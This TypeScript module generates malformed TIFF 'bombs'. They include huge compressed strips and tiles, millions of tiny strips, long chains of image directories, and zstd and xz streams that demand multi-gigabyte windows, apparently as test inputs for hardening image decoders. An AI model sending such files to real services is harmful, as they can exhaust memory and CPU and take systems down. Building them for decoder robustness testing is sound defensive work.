import { deflateSync } from "node:zlib";
import type { Bomb } from "./bomb.ts";

/** Values of a 32-bit field: tag and numbers; of 16 bits where stated. */
type Field = readonly [tag: number, values: readonly number[], bits?: 16 | 32];

/** A directory at `at` with its longer lists after it; returns its bytes. */
const directory = (at: number, fields: readonly Field[], next = 0): Buffer => {
  const head = Buffer.alloc(2 + fields.length * 12 + 4);
  head.writeUInt16LE(fields.length);
  const lists: Buffer[] = [head];
  let end = at + head.length;
  for (const [index, [tag, values, bits = 32]] of fields.entries()) {
    const list = Buffer.alloc(Math.max(4, values.length * (bits / 8)));
    for (const [number, value] of values.entries())
      if (bits === 32) list.writeUInt32LE(value, number * 4);
      else list.writeUInt16LE(value, number * 2);
    const entry = 2 + index * 12;
    head.writeUInt16LE(tag, entry);
    head.writeUInt16LE(bits === 32 ? 4 : 3, entry + 2);
    head.writeUInt32LE(values.length, entry + 4);
    if (list.length === 4) list.copy(head, entry + 8);
    else {
      head.writeUInt32LE(end, entry + 8);
      lists.push(list);
      end += list.length;
    }
  }
  head.writeUInt32LE(next, head.length - 4);
  return Buffer.concat(lists);
};

const header = (first: number): Buffer => {
  const bytes = Buffer.from("II*\0\0\0\0\0", "latin1");
  bytes.writeUInt32LE(first, 4);
  return bytes;
};

/** A file of one directory after its data, which begins at byte 8. */
const fileOf = (data: Uint8Array, fields: readonly Field[]): Buffer => {
  const at = 8 + data.length + (data.length & 1);
  const pad = Buffer.alloc(data.length & 1);
  return Buffer.concat([header(at), data, pad, directory(at, fields)]);
};

interface Kind {
  readonly bits?: number;
  readonly samples?: number;
  readonly compression?: number;
  readonly photometric?: number;
}

const grey = (width: number, height: number, kind: Kind = {}): Field[] => {
  const { bits = 8, samples = 1, compression = 1, photometric = samples > 2 ? 2 : 1 } = kind;
  return [
    [256, [width]],
    [257, [height]],
    [258, Array<number>(samples).fill(bits), 16],
    [259, [compression], 16],
    [262, [photometric], 16],
    [277, [samples], 16],
  ];
};

const strips = (data: Uint8Array, rows: number, count = 1): Field[] => [
  [273, Array<number>(count).fill(8)],
  [278, [rows]],
  [279, Array<number>(count).fill(data.length)],
];

const tiles = (data: Uint8Array, side: number, count: number): Field[] => [
  [322, [side]],
  [323, [side]],
  [324, Array<number>(count).fill(8)],
  [325, Array<number>(count).fill(data.length)],
];

const [deflate, packBits, group4, lzma, zstd] = [8, 32_773, 4, 34_925, 50_000];

/** PackBits of so many zeros. */
const packed = (length: number): Buffer =>
  Buffer.alloc(Math.ceil(length / 128) * 2, Buffer.of(0x81, 0));

const oneStrip = (width: number, height: number, data: Uint8Array, kind: Kind): Buffer =>
  fileOf(data, [...grey(width, height, kind), ...strips(data, height)]);

/** Images of one pixel, one directory after the other, each with so many below it. */
const chain = (count: number, children: number): Buffer => {
  const picture: Field[] = [...grey(1, 1), ...strips(Buffer.alloc(1), 1)];
  const below = directory(8, picture).length;
  const withBelow = (at: number): Field[] =>
    children === 0
      ? picture
      : [
          ...picture,
          [330, Array.from({ length: children }, (_, child) => at - below * (child + 1))],
        ];
  const step = below * children + directory(8, withBelow(below * children)).length;
  const first = 8 + below * children;
  const parts: Buffer[] = [header(first)];
  for (let number = 0; number < count; number++) {
    const at = first + step * number;
    for (let child = children; child > 0; child--)
      parts.push(directory(at - below * child, picture));
    parts.push(directory(at, withBelow(at), number + 1 === count ? 0 : at + step));
  }
  return Buffer.concat(parts);
};

export const tiffBombs: readonly Bomb[] = [
  {
    name: "tiff-one-strip-deflate.tif",
    make: () =>
      oneStrip(60_000, 60_000, deflateSync(Buffer.alloc(7_500 * 60_000)), {
        bits: 1,
        compression: deflate,
      }),
  },
  {
    name: "tiff-one-strip-packbits.tif",
    make: () =>
      oneStrip(60_000, 60_000, packed(7_500 * 60_000), { bits: 1, compression: packBits }),
  },
  {
    name: "tiff-one-strip-group4.tif",
    // A white row equal to the one before it is one bit.
    make: () =>
      oneStrip(60_000, 60_000, Buffer.alloc(7_500, 0xff), {
        bits: 1,
        compression: group4,
        photometric: 0,
      }),
  },
  {
    name: "tiff-strips-group4.tif",
    make: () => {
      const data = Buffer.alloc(2, 0xff);
      return fileOf(data, [
        ...grey(65_000, 65_000, { bits: 1, compression: group4, photometric: 0 }),
        ...strips(data, 1, 65_000),
      ]);
    },
  },
  {
    name: "tiff-strips-deflate.tif",
    make: () => {
      const data = deflateSync(Buffer.alloc(20_000 * 3));
      return fileOf(data, [
        ...grey(20_000, 20_000, { samples: 3, compression: deflate }),
        ...strips(data, 1, 20_000),
      ]);
    },
  },
  {
    name: "tiff-strips-of-a-pixel.tif",
    make: () =>
      fileOf(Buffer.alloc(1), [...grey(1, 1_000_000), ...strips(Buffer.alloc(1), 1, 1_000_000)]),
  },
  {
    name: "tiff-tiles-of-a-pixel.tif",
    make: () =>
      fileOf(Buffer.alloc(1), [...grey(1_000, 1_000), ...tiles(Buffer.alloc(1), 1, 1_000_000)]),
  },
  {
    name: "tiff-tiles-of-16.tif",
    make: () =>
      fileOf(Buffer.alloc(256), [
        ...grey(16_000, 16_000),
        ...tiles(Buffer.alloc(256), 16, 1_000_000),
      ]),
  },
  {
    name: "tiff-tiles-of-16-deflate.tif",
    make: () => {
      const data = deflateSync(Buffer.alloc(16 * 16 * 3));
      return fileOf(data, [
        ...grey(8_000, 8_000, { samples: 3, compression: deflate }),
        ...tiles(data, 16, 250_000),
      ]);
    },
  },
  {
    name: "tiff-huge-tile.tif",
    make: () => {
      const data = deflateSync(Buffer.alloc(20_000 * 20_000));
      return fileOf(data, [...grey(100, 100, { compression: deflate }), ...tiles(data, 20_000, 1)]);
    },
  },
  {
    name: "tiff-strip-inflates-on.tif",
    make: () =>
      oneStrip(256, 256, deflateSync(Buffer.alloc(1_000_000_000)), { compression: deflate }),
  },
  {
    name: "tiff-many-samples.tif",
    make: () => {
      const data = deflateSync(Buffer.alloc(1_000 * 1_000 * 200));
      return oneStrip(1_000, 1_000, data, { samples: 200, compression: deflate });
    },
  },
  { name: "tiff-directories.tif", make: () => chain(10_000, 0) },
  { name: "tiff-directories-below.tif", make: () => chain(150, 64) },
  { name: "tiff-last-of-directories.tif", make: () => chain(9_000, 0), page: 9_000 },
  {
    name: "tiff-zstd-window.tif",
    // A frame that requires a window of 2 GB and continues with a block of one byte, repeated.
    make: () =>
      oneStrip(256, 256, Buffer.from("28b52ffd00a8fbff0700", "hex"), { compression: zstd }),
  },
  {
    name: "tiff-lzma-dictionary.tif",
    // An xz stream whose block requires a dictionary of 4 GB.
    make: () =>
      oneStrip(256, 256, Buffer.from("fd377a585a000001692dde3602002101280000006a73", "hex"), {
        compression: lzma,
      }),
  },
];
